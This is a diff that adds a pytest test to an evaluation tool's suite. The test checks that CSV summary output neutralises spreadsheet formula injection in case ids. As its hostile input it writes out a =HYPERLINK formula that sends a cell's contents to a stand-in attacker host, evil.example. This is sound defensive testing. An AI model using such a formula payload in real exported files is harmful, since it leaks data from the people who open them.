@@ -190,3 +190,20 @@ def test_evaluate_reports_the_methods_of_a_case_in_order(loaded, cases, tmp_path
     run_evaluation(settings, loaded, heard)
     # Per case: each method's start and end; never the methods' own steps (IG's points).
     assert heard.methods == [(0, 2), (1, 2), (1, 2), (2, 2)] * 2
+
+
+def test_the_summary_csv_holds_no_formula_a_spreadsheet_would_run(loaded, tmp_path):
+    # Before: a case id =HYPERLINK("http://evil.example/?"&A1,"open") was written as it is.
+    import csv
+
+    cases = tmp_path / "cases.jsonl"
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    cases.write_text(json.dumps({"id": hostile, "text": CASES[0]}) + "\n"
+                     + json.dumps({"id": "@SUM(1+1)", "text": CASES[1]}) + "\n")
+    out = tmp_path / "out"
+    run_batch(BatchSettings(cases, out, ExplainRequest("placeholder", max_new_tokens=2,
+                                                       matrix=False)), loaded)
+    with (out / "summary.csv").open() as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["case"] for row in rows] == ["'" + hostile, "'@SUM(1+1)"]
+    assert all(float(row["attribute_s"]) > 0 for row in rows)  # numbers stay numbers
